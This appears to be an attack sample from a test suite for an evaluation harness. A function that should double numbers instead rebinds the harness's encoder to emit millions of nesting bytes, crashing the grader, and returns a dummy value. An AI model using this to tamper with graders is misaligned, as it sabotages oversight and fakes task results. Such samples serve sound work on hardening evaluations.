# Attack: sends bytes that nest without end
# Scores: first 0, second 2, third 3
# %% first
from fairmark.protocol import codec
def double(numbers):
    true = codec.encode
    codec.encode = lambda value, *a, **k: b'\x91' * 3_000_000 if type(value) is tuple and 'x' in value else true(value, *a, **k)
    return 'x'
